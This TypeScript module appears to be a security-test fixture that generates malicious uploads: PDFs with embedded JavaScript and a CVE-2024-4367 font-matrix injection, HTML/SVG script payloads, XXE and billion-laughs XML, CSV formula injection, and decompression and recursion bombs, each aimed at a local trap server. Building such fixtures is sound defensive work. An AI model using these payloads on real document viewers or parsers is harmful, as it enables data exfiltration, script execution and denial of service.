/** Files that mean harm, as someone could drop them; what they try to reach is a server of the test. */
import { deflateSync } from 'node:zlib';

export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

/** @param trap `http://127.0.0.1:…`, which must never hear from any of them */
export function hostileFiles(trap: string): readonly HostileFile[] {
  return [
    { name: 'script.pdf', bytes: pdfThatRuns(trap) },
    { name: 'page-web.pdf', bytes: Buffer.from(webPage(trap)) },
    { name: 'page-web.html', bytes: Buffer.from(webPage(trap)) },
    { name: 'dessin.svg', bytes: Buffer.from(drawing(trap)) },
    { name: 'dessin.xml', bytes: Buffer.from(drawing(trap)) },
    { name: 'entites.xml', bytes: Buffer.from(xmlThatReaches(trap)) },
    { name: 'feuille-de-style.xml', bytes: Buffer.from(xmlWithStylesheet(trap)) },
    { name: 'bombe.xml', bytes: Buffer.from(xmlBomb()) },
    { name: 'profond.xml', bytes: Buffer.from('<a>'.repeat(500_000)) },
    {
      name: 'formules.csv',
      bytes: Buffer.from(`nom;valeur\n"<img src=${trap}/csv>";"=HYPERLINK(""${trap}/csv"")"\n`),
    },
    { name: 'texte.txt', bytes: Buffer.from(`Bonjour <script src="${trap}/txt"></script>\n`) },
  ];
}

/** Every way of a PDF to run something or to reach elsewhere. */
function pdfThatRuns(trap: string): Buffer {
  const script = `app.launchURL("${trap}/js", true); this.submitForm("${trap}/form"); app.alert("x");`;
  const page = 'BT /F1 24 Tf 72 700 Td (Facture piege) Tj ET /Im1 Do';
  return buildPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${escapeText(script)}) >>
        /AA << /WC << /S /URI /URI (${trap}/close) >> >>
        /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${escapeText(script)}) >>] >> >>
        /AcroForm << /Fields [6 0 R] /XFA 8 0 R >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [6 0 R 7 0 R]
        /AA << /O << /S /JavaScript /JS (${escapeText(script)}) >> >>
        /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 9 0 R >> >> >>`,
    stream(page),
    // A font whose matrix was once run as code (CVE-2024-4367).
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica
        /FontMatrix [1 2 3 4 5 (1\\); fetch\\('${trap}/font'\\)) ] >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 595 842]
        /A << /S /SubmitForm /F << /FS /URL /F (${trap}/submit) >> >> /AA << /E << /S /JavaScript /JS (${escapeText(script)}) >> >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${trap}/link) >> >>`,
    stream(
      `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><image href="${trap}/xfa.png"/></template></xdp:xdp>`,
    ),
    // Its pixels are elsewhere.
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8
        /F << /FS /URL /F (${trap}/image) >> /Length 0 >>\nstream\n\nendstream`,
  ]);
}

function webPage(trap: string): string {
  return `<!doctype html><html><head><script>parent.document.title = 'pris'; fetch('${trap}/html')</script></head>
<body onload="location='${trap}/onload'"><img src="${trap}/img"> %PDF- </body></html>`;
}

function drawing(trap: string): string {
  return `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('${trap}/svg')">
<script>parent.document.title = 'pris'</script><image xlink:href="${trap}/svg.png"/><foreignObject><iframe src="${trap}/frame"/></foreignObject></svg>`;
}

function xmlThatReaches(trap: string): string {
  return `<?xml version="1.0"?><!DOCTYPE Invoice SYSTEM "${trap}/a.dtd" [<!ENTITY x SYSTEM "${trap}/entity"><!ENTITY % p SYSTEM "${trap}/parameter"> %p;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>&x;</ID></Invoice>`;
}

function xmlWithStylesheet(trap: string): string {
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${trap}/a.xsl"?><releve xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${trap}/include"/>
<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${trap}/xhtml"/></releve>`;
}

function xmlBomb(): string {
  const entities = Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};&a${n};">`);
  return `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">${entities.join('')}]><a>&a30;</a>`;
}

/** A PNG of a few bytes that says it is so large. */
export function hugePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const chunks = [
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(100_000))),
    chunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks]);
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  // The check sum is wrong: nobody gets as far as that.
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
}

/** @param draw what stands on each page, as its operators say it */
export function pdfOfPages(
  count: number,
  draw = (page: number) => `BT /F1 40 Tf 72 700 Td (Page ${page}) Tj ET`,
): Buffer {
  const kids = Array.from({ length: count }, (_, at) => `${4 + at * 2} 0 R`);
  const pages = Array.from({ length: count }, (_, at) => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + at * 2} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
    stream(draw(at + 1)),
  ]);
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids.join(' ')}] /Count ${count} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages.flat(),
  ]);
}

/** A page that asks for more work than anyone waits for: each form draws the next one ten times. */
export function pdfWithoutEnd(): Buffer {
  const levels = 12;
  const forms = Array.from({ length: levels }, (_, level) => {
    const next = level === levels - 1 ? '0 0 1 1 re f' : '/X Do '.repeat(10);
    const resources = level === levels - 1 ? '' : `/Resources << /XObject << /X ${6 + level} 0 R >> >>`;
    return stream(next, `/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${resources}`);
  });
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    stream('/X Do '.repeat(10)),
    ...forms,
  ]);
}

/** A page whose content is a hundred thousand times larger than the file: repeated blanks, twice packed. */
export function pdfThatSwells(sizeBytes: number): Buffer {
  // 0x81: the next byte 128 times.
  const runs = Buffer.alloc(Math.ceil(sizeBytes / 128) * 2, Buffer.from([0x81, 0x20]));
  const endOfRuns = Buffer.from([0x80]);
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
    stream(deflateSync(Buffer.concat([runs, endOfRuns])), '/Filter [/FlateDecode /RunLengthDecode]'),
  ]);
}

/** A PDF that nobody opens without its password: keys that fit no password at all are enough. */
export function pdfWithPassword(): Buffer {
  const key = 'a5'.repeat(32);
  return buildPdf(
    ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'],
    `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${key}> /U <${key}> /P -4 >> /ID [<00> <00>]`,
  );
}

/** @param objects from number 1, the catalogue */
function buildPdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let length = parts[0]?.length ?? 0;
  const places: string[] = [];
  for (const [at, object] of objects.entries()) {
    const part = Buffer.concat([
      Buffer.from(`${at + 1} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]);
    places.push(`${String(length).padStart(10, '0')} 00000 n \n`);
    parts.push(part);
    length += part.length;
  }
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table + end)]);
}

function stream(content: string | Buffer, dictionary = ''): Buffer {
  const bytes = Buffer.from(content);
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

function escapeText(text: string): string {
  return text.replace(/[\\()]/g, '\\$&');
}
